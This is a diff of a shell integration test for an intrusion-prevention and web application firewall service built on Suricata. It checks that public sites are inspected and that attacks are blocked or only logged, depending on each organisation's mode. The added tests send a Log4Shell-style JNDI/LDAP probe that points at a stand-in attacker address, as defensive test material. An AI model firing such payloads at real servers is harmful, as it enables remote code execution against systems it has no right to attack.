@@ -52,7 +52,7 @@ try "the same signature only alerts for a body that detects" is "$(hears "$top/c
 cp -r test/golden/ips/description "$top/d"
 sed -i -E 's/"rules": \["[0-9a-f]+"\]/"rules": []/' "$top/d/service.json"
 # Asking for a page again and again until it comes is what a C&C beacon does, and would be blocked as one: not what a body's white list names.
-for f in "$top"/d/orgs/*.json; do jq '.url.white = ["login.phish.example", "www.news.example"]' "$f" >"$f.new" && mv "$f.new" "$f"; done
+for f in "$top"/d/orgs/*.json; do jq '.url.white = ["login.phish.example", "www.news.example"] | .sites |= .[:1]' "$f" >"$f.new" && mv "$f.new" "$f"; done
 "$T" lab up "$top/d" >"$top/try" 2>&1; ok $? "a lab of two bodies, with an inspected line"
 try "the line is inspected" lines inspect
 try "honest pages pass for the one that prevents" gets 412015 $honest "today's news"
@@ -68,6 +68,25 @@ try "the body that prevents has an incident of it" until_true 40 incident 412015
 try "so has the one that only detects" until_true 40 incident 412023 "holds an attack"
 try "stopped for the one" incident 412015 "All of what looks like an attack was refused"
 try "passed for the other" incident 412023 "What looks like an attack got through"
+# ---- public sites: in TLS as far as the node, in the clear from there to the body's server, inspected there. The WAF only tells here.
+visit() { # ORG PATH [SITE]: status and page
+	local name=${3:-www.$1.lg.example}
+	on inet curl -sS -g --max-time 20 --cacert "$D/internet/ca.pem" --interface 203.0.113.77 --resolve "$name:443:198.51.100.3" -w '\n%{http_code}\n' "https://$name$2"
+}
+shows() { local org=$1 path=$2 want=$3; shift 3; visit "$org" "$path" "$@" >"$top/got" 2>&1; cat "$top/got"; grep -qF -- "$want" "$top/got"; }
+probe='/?q=%24%7Bjndi:ldap://203.0.113.77/a%7D'
+noticed() { # ORG DISPOSITION MODE ORIGIN SITE
+	records --org "$1" | jq -se --arg d "$2" --arg m "$3" --arg o "$4" --arg s "$5" 'any(.[]; .product == "suricata" and .rule.uid == "9100001" and .disposition == $d and .mode == $m and
+		.src_endpoint.ip == "203.0.113.77" and .dst_endpoint.ip == $o and .dst_endpoint.hostname == $s and .connection_info.direction == "Inbound")'
+}
+try "a public site's page comes over the inspected leg" shows 412015 / "412015 www.412015.lg.example asked by 203.0.113.77 from 100.64.1.1"
+try "so does the other body's, whose server has the same address" shows 412023 / "412023 www.412023.lg.example asked by 203.0.113.77 from 100.64.2.1"
+try "an attack in TLS that the WAF lets pass doesn't reach the server of the body that prevents" shows 412015 "$probe" 503
+try "that of the one that detects it does" shows 412023 "$probe" "412023 www.412023.lg.example asked by"
+try "and the next visitor's page comes" shows 412015 / "asked by 203.0.113.77 from 100.64.1.1"
+try "it is a record of the site's body, with the visitor and the server" until_true 20 noticed 412015 Blocked prevent 10.1.0.80 www.412015.lg.example
+try "of the other's too" until_true 20 noticed 412023 Allowed detect 10.1.0.80 www.412023.lg.example
+try "and an incident of each" until_true 40 eval 'incident 412015 "Somebody on the Internet attacks what a body publishes" && incident 412015 "address: 203.0.113.77" && incident 412023 "address: 203.0.113.77"'
 try "and the log is intact" eval 'node log verify >/dev/null'
 
 # ---- changes while connections run ----
@@ -91,10 +110,12 @@ dead() { mount --bind /bin/false /usr/bin/suricata && kill -9 "$(cut -d' ' -f1 "
 dead; try "it can't start: a line described as a bridge is one" until_true 15 lines bridge
 try "honest pages pass" until_true 10 gets 412015 $honest "today's news"
 try "uninspected" until_true 10 gets 412015 $attack "This program cannot"
+try "so do the public sites'" until_true 10 shows 412015 "$probe" "412015 www.412015.lg.example asked by"
 try "the watch is told" grep -q "nobody inspects the lines: packets pass uninspected" "$D/log/torided.log"
 umount /usr/bin/suricata
 try "it can start again: inspected" until_true 60 lines inspect
 try "the attack is stopped" until_true 10 gets 412015 $attack "P-20"
+try "so is the one on the public site" until_true 10 shows 412015 "$probe" 503
 cp -r "$D/description" "$top/f"
 sed -i -E 's/"fail": ?"bridge"/"fail": "closed"/' "$top/f/service.json"
 try "the line is to be closed when nobody inspects (a restart)" apply "$top/f"
@@ -158,6 +179,19 @@ try "one that isn't what its name says: refused" refuses "not the file" node app
 cp "$top/broken.rules" "$D/state/feeds/ips/$hex.rules"
 try "one that Suricata can't read: refused" refuses "suricata" node apply "$broken" --as sato
 try "the line is inspected all the while" lines inspect
+
+# ---- a site whose server stands elsewhere: the same leg, and out by the line
+cp -r "$D/description" "$top/s"
+on inet python3 -c 'import http.server as h
+class H(h.BaseHTTPRequestHandler):
+	protocol_version = "HTTP/1.1"
+	def do_GET(s): b = b"elsewhere asked by %s\n" % s.headers["X-Forwarded-For"].encode(); s.send_response(200); s.send_header("Content-Length", str(len(b))); s.end_headers(); s.wfile.write(b)
+h.ThreadingHTTPServer(("203.0.113.12", 8080), H).serve_forever()' >/dev/null 2>&1 & elsewhere=$!
+jq '.sites[0].origins[0] += {addr: "203.0.113.12", port: 8080}' "$top/s/orgs/412023.json" >"$top/new" && cp "$top/new" "$top/s/orgs/412023.json"
+try "a site's server moves to the Internet" apply "$top/s"
+try "its pages come" until_true 10 shows 412023 / "elsewhere asked by 203.0.113.77"
+try "and what is inspected names it" until_true 20 eval 'shows 412023 "$probe" elsewhere && noticed 412023 Allowed detect 203.0.113.12 www.412023.lg.example'
+kill $elsewhere; wait $elsewhere 2>/dev/null
 
 # ---- what the proxy decrypts (last: what got through is an incident whose sites the cloud may block by itself) ----
 printf '%s\nMIIE\n' '-----BEGIN RSA PRIVATE KEY-----' >"$top/key"
